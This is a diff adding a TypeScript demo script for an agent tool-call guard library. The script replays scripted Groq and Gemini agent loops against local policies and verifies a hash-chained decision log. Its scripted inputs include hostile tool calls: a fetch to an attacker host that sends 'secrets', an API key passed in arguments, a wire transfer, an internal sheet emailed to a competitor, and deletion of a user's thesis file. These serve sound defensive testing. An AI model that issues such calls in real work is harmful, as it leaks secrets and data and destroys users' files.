@@ -1,0 +1,134 @@
+/**
+ * `npm run demo`: the shipped policies guarding two scripted agent loops, with no network and no
+ * keys. A local server plays the model providers; the real `groq-sdk` and `@google/genai` clients
+ * talk to it. Every decision prints one line and lands in decisions.jsonl, whose chain is verified
+ * at the end.
+ */
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import { GoogleGenAI } from '@google/genai'
+import Groq from 'groq-sdk'
+import { compile } from '../../compiler/index.js'
+import { formatDiagnostics } from '../../compiler/format.js'
+import { createGuard, type GuardDecision } from '../../src/guard.js'
+import { protectGemini } from '../../src/adapters/gemini.js'
+import { runToolCalls } from '../../src/adapters/openai.js'
+import { createFileSink, redact, verifyLog } from '../../src/records/index.js'
+import type { CompiledPolicy } from '../../src/types.js'
+import { startProviderServer, type ScriptedCall } from './provider-server.js'
+
+const LOG = 'decisions.jsonl'
+const color = process.stdout.isTTY ? { allow: '\x1b[32m', review: '\x1b[33m', deny: '\x1b[31m', dim: '\x1b[2m', off: '\x1b[0m' } : { allow: '', review: '', deny: '', dim: '', off: '' }
+
+async function load(file: string): Promise<CompiledPolicy> {
+  const source = readFileSync(file, 'utf8')
+  const out = compile(source, { filename: file })
+  if (out.diagnostics.some(d => d.severity === 'error')) throw new Error(formatDiagnostics(out.diagnostics, source, file))
+  const dir = join(tmpdir(), 'vetoc-demo')
+  mkdirSync(dir, { recursive: true })
+  const target = join(dir, `${out.digest}.mjs`)
+  writeFileSync(target, out.code)
+  return (await import(pathToFileURL(target).href)) as CompiledPolicy
+}
+
+function show(policy: string, tool: string, args: unknown, d: GuardDecision): void {
+  const label = `${color[d.decision]}${d.decision.toUpperCase().padEnd(6)}${color.off}`
+  const why = d.decision === 'allow' && !d.resolvedBy ? '' : ` ${color.dim}— ${d.reason ?? ''}${d.rule ? ` [${d.rule}]` : ''}${color.off}`
+  console.log(`[${policy}] ${label} ${tool} ${JSON.stringify(redact(args))}${why}`)
+}
+
+async function main(): Promise<void> {
+  rmSync(LOG, { force: true })
+  const server = await startProviderServer()
+  const sink = createFileSink(LOG)
+  // A fixed clock: 12:00 in New York, inside the SMS hours (one call later moves it to 21:00).
+  let now = Date.parse('2026-11-24T17:00:00Z')
+  const clock = (): number => now
+
+  // ── Groq agent loop on policies/groq-tools.policy.yaml ──────────────────────────────────────
+  const groqTools = await load('policies/groq-tools.policy.yaml')
+  const groqGuard = createGuard(groqTools, { sink, clock })
+  const groq = new Groq({ apiKey: 'demo-key', baseURL: server.url, maxRetries: 0 })
+  const handlers = {
+    fetch_external_api: async ({ url }: { url: string }) => ({ status: 200, url }),
+    send_sms: async ({ to }: { to: string }) => `SMS queued to ${to}`,
+  }
+  const turns: ScriptedCall[][] = [
+    [
+      { id: 'call_1', name: 'fetch_external_api', args: { url: 'https://api.stripe.invalid/v1/balance' } },
+      { id: 'call_2', name: 'fetch_external_api', args: { url: 'https://attacker.invalid/collect?d=secrets' } },
+      { id: 'call_3', name: 'send_sms', args: { to: '+15550100', body: 'Your order shipped' } },
+    ],
+    [
+      { id: 'call_4', name: 'send_sms', args: { to: '+15550100', body: 'Reminder: your order shipped' } },
+      { id: 'call_5', name: 'fetch_external_api', args: { url: 'https://api.twilio.invalid/v1/lookup', api_key: 'sk-live-51Hdemo0123456789' } },
+      { id: 'call_6', name: 'wire_transfer', args: { amount: 1000 } },
+    ],
+    [{ id: 'call_7', name: 'send_sms', args: { to: '+15550199', body: 'Late-night promo' } }],
+  ]
+  for (const t of turns) server.script('openai', t)
+  server.script('openai', [])
+  console.log('groq agent (groq-sdk → local provider) on groq-tools.policy.yaml')
+  const messages: any[] = [{ role: 'user', content: 'Check the balance and notify the customer.' }]
+  for (let turn = 0; turn < 8; turn++) {
+    if (turn === 2) now = Date.parse('2026-11-25T02:00:00Z') // 21:00 in New York
+    const completion = await groq.chat.completions.create({ model: 'llama-3.3-70b-versatile', messages, tools: Object.keys(handlers).map(name => ({ type: 'function' as const, function: { name, parameters: { type: 'object' } } })) })
+    const message = completion.choices[0]!.message
+    messages.push(message)
+    if (!message.tool_calls?.length) {
+      console.log(`  model: ${message.content}`)
+      break
+    }
+    const { messages: replies, outcomes } = await runToolCalls(groqGuard, message.tool_calls, handlers)
+    for (const o of outcomes) show('groq-tools', o.tool, message.tool_calls.find(c => c.id === o.id)?.function.arguments ? JSON.parse(message.tool_calls.find(c => c.id === o.id)!.function.arguments) : {}, o.decision)
+    messages.push(...replies)
+  }
+
+  // ── Gemini-style loop on policies/gemini-safety.policy.yaml ─────────────────────────────────
+  now = Date.parse('2026-11-24T17:00:00Z')
+  const geminiSafety = await load('policies/gemini-safety.policy.yaml')
+  // A scripted approver: approves deleting logs, denies everything else.
+  const approver = ({ args }: { args: unknown }) => ((args as { path: string }).path.startsWith('/var/log/') ? { approved: true, by: 'ops@approved.example.com' } : { approved: false, by: 'ops@approved.example.com' })
+  const geminiGuard = createGuard(geminiSafety, { sink, clock, approvals: approver })
+  const ai = new GoogleGenAI({ apiKey: 'demo-key', httpOptions: { baseUrl: server.url } })
+  const { tools, handle } = protectGemini(geminiGuard, [
+    { name: 'send_email', description: 'Send an email', parametersJsonSchema: { type: 'object' }, handler: ({ to }: { to: string }) => `sent to ${to}` },
+    { name: 'delete_file', description: 'Delete a file', parametersJsonSchema: { type: 'object' }, handler: ({ path }: { path: string }) => `deleted ${path}` },
+  ])
+  server.script('gemini', [
+    { id: 'f1', name: 'send_email', args: { to: 'team@approved.example.com', subject: 'Weekly report', body: 'All green.' } },
+    { id: 'f2', name: 'send_email', args: { to: 'someone@competitor.invalid', subject: 'Pricing', body: 'Internal sheet attached' } },
+    { id: 'f3', name: 'delete_file', args: { path: '/tmp/report-draft.txt' } },
+    { id: 'f4', name: 'delete_file', args: { path: '/var/log/app/old.log' } },
+    { id: 'f5', name: 'delete_file', args: { path: '/home/ana/thesis.tex' } },
+  ])
+  server.script('gemini', [])
+  console.log('\ngemini agent (@google/genai → local provider) on gemini-safety.policy.yaml')
+  const contents: any[] = [{ role: 'user', parts: [{ text: 'Send the report and clean up.' }] }]
+  for (let turn = 0; turn < 4; turn++) {
+    const response = await ai.models.generateContent({ model: 'gemini-2.5-flash', contents, config: { tools: tools as never } })
+    const calls = response.functionCalls ?? []
+    if (calls.length === 0) {
+      console.log(`  model: ${response.text}`)
+      break
+    }
+    contents.push(response.candidates![0]!.content)
+    const { parts, outcomes } = await handle(calls)
+    outcomes.forEach((o, i) => show('gemini-safety', o.tool, calls[i]!.args, o.decision))
+    contents.push({ role: 'user', parts })
+  }
+
+  await groqGuard.close()
+  await geminiGuard.close()
+  await server.close()
+  const v = verifyLog(readFileSync(LOG, 'utf8'))
+  console.log(v.ok ? `\n${LOG}: ${v.count} records, hash chain verified (npx vetoc log verify ${LOG})` : `\n${LOG}: chain BROKEN at line ${v.line}: ${v.reason}`)
+  if (!v.ok) process.exitCode = 1
+}
+
+main().catch(e => {
+  console.error(e instanceof Error ? e.message : e)
+  process.exitCode = 1
+})
